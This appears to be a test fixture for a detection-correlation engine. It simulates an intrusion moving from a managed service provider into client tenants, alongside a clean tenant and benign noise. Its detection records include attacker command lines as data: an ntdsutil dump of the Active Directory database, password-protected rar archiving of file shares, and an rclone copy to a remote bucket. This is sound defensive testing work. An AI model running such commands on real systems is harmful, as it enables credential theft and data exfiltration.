// A hand-built cloud-hopping scenario: provider (msp) → client (acme) → client (beta), a clean tenant (gamma).
import { EntityGraph, observeRecord } from '../../src/correlate/index.js';
import type { Detection } from '../../src/engine/types.js';
import { detection, logon, record, sysmon } from './fixtures.js';

const HASH = `SHA256=${'ab'.repeat(32)}`;

/** A provider (msp) → client (acme) → client (beta) intrusion, a clean tenant (gamma) and benign noise. */
export function scenario(
  /** Tenant names to use instead of msp/acme/beta/gamma (e.g. names with a `|`, as folder names may have). */
  rename: Readonly<Record<string, string>> = {},
): { graph: EntityGraph; detections: Detection[] } {
  const t = (tenant: string): string => rename[tenant] ?? tenant;
  const graph = new EntityGraph();
  const records = [
    sysmon(3, 'JUMP01.msp.local', '2026-01-01T08:00:00Z', t('msp'), {
      Initiated: 'true',
      SourceIp: '10.9.0.2',
      DestinationIp: '10.1.0.10',
    }),
    sysmon(3, 'SRV01.acme.local', '2026-01-02T08:00:00Z', t('acme'), {
      Initiated: 'true',
      SourceIp: '10.1.0.10',
      DestinationIp: '10.1.0.2',
    }),
    record({
      id: 4768,
      computer: 'DC01.acme.local',
      time: '2026-01-02T08:00:00Z',
      tenant: t('acme'),
      data: { TargetUserName: 'bob' },
    }),
    logon('SRV01.acme.local', t('acme'), '2026-01-01T09:00:00Z', 'tech', 'MSP', '10.9.0.2', 10),
    logon('DC01.acme.local', t('acme'), '2026-01-10T09:00:00Z', 'tech', 'MSP', '10.1.0.10', 3),
    logon('WS01.beta.local', t('beta'), '2026-02-01T09:00:00Z', 'tech', 'MSP', '10.9.0.2', 10),
    // The provider's technician also works, legitimately, in the clean tenant.
    logon('WS01.gamma.local', t('gamma'), '2026-01-15T09:00:00Z', 'tech', 'MSP', '10.9.0.2', 10),
    sysmon(11, 'FS01.beta.local', '2026-02-03T10:00:00Z', t('beta'), {
      TargetFilename: 'C:\\$Recycle.Bin\\ss.rar',
    }),
  ];
  for (const r of records) observeRecord(r, graph);
  const tech = { SubjectUserName: 'tech', SubjectDomainName: 'MSP' };
  const detections = [
    detection({
      rule: 'rdp-from-provider',
      level: 'high',
      tags: ['attack.initial-access', 'attack.t1133'],
      host: 'JUMP01.msp.local',
      tenant: t('msp'),
      time: '2026-01-01T08:30:00Z',
      fields: { ...tech, Image: 'C:\\Users\\tech\\AppData\\Local\\Temp\\tscon.exe' },
    }),
    detection({
      rule: 'sideload',
      level: 'high',
      tags: ['attack.persistence', 'attack.defense-evasion', 'attack.t1574.001'],
      host: 'SRV01.acme.local',
      tenant: t('acme'),
      time: '2026-01-05T10:00:00Z',
      fields: { ...tech, Image: 'C:\\ProgramData\\policytool.exe', Hashes: HASH },
    }),
    detection({
      rule: 'adfind',
      level: 'high',
      tags: ['attack.discovery', 'attack.t1087.002'],
      host: 'SRV01.acme.local',
      tenant: t('acme'),
      time: '2026-01-08T10:00:00Z',
      fields: { ...tech, CommandLine: 'adfind.exe -f objectcategory=computer' },
    }),
    detection({
      rule: 'zerologon',
      level: 'critical',
      tags: ['attack.lateral-movement', 'attack.t1210'],
      host: 'DC01.acme.local',
      tenant: t('acme'),
      time: '2026-01-10T09:05:00Z',
      eventId: 5829,
      fields: {},
    }),
    detection({
      rule: 'ntdsutil',
      level: 'high',
      tags: ['attack.credential-access', 'attack.t1003.003'],
      host: 'DC01.acme.local',
      tenant: t('acme'),
      time: '2026-01-12T10:00:00Z',
      fields: { ...tech, CommandLine: 'ntdsutil "ac i ntds" "ifm" "create full c:\\perflogs\\x" q q' },
    }),
    detection({
      rule: 'rar-password',
      level: 'high',
      tags: ['attack.collection', 'attack.t1560.001'],
      host: 'SRV01.acme.local',
      tenant: t('acme'),
      time: '2026-01-20T10:00:00Z',
      fields: { ...tech, CommandLine: 'r.exe a -hpPass C:\\$Recycle.Bin\\ss.rar \\\\fs01\\hr' },
    }),
    detection({
      rule: 'rclone',
      level: 'high',
      tags: ['attack.exfiltration', 'attack.t1567.002'],
      host: 'SRV01.acme.local',
      tenant: t('acme'),
      time: '2026-01-21T10:00:00Z',
      fields: { ...tech, CommandLine: 'rclone.exe copy C:\\$Recycle.Bin\\ss.rar remote:bucket' },
    }),
    detection({
      rule: 'sideload',
      level: 'high',
      tags: ['attack.persistence', 'attack.defense-evasion', 'attack.t1574.001'],
      host: 'WS01.beta.local',
      tenant: t('beta'),
      time: '2026-02-01T10:00:00Z',
      fields: { ...tech, Image: 'C:\\ProgramData\\policytool.exe', Hashes: HASH },
    }),
    detection({
      rule: 'rar-password',
      level: 'high',
      tags: ['attack.collection', 'attack.t1560.001'],
      host: 'FS01.beta.local',
      tenant: t('beta'),
      time: '2026-02-03T10:00:00Z',
      fields: { ...tech, CommandLine: 'r.exe a -hpPass C:\\$Recycle.Bin\\ss.rar d:\\shares' },
    }),
    // Benign noise: the clean tenant and an unrelated acme workstation.
    detection({
      rule: 'whoami',
      level: 'low',
      tags: ['attack.discovery'],
      host: 'WS01.gamma.local',
      tenant: t('gamma'),
      time: '2026-01-15T09:30:00Z',
      fields: tech,
    }),
    detection({
      rule: 'net-user',
      level: 'medium',
      tags: ['attack.discovery'],
      host: 'WS02.gamma.local',
      tenant: t('gamma'),
      time: '2026-01-16T09:30:00Z',
      fields: { SubjectUserName: 'admin' },
    }),
    detection({
      rule: 'encoded-ps',
      level: 'medium',
      tags: ['attack.execution'],
      host: 'WS09.acme.local',
      tenant: t('acme'),
      time: '2025-12-01T09:30:00Z',
      fields: { SubjectUserName: 'carol' },
    }),
  ];
  return { graph, detections };
}
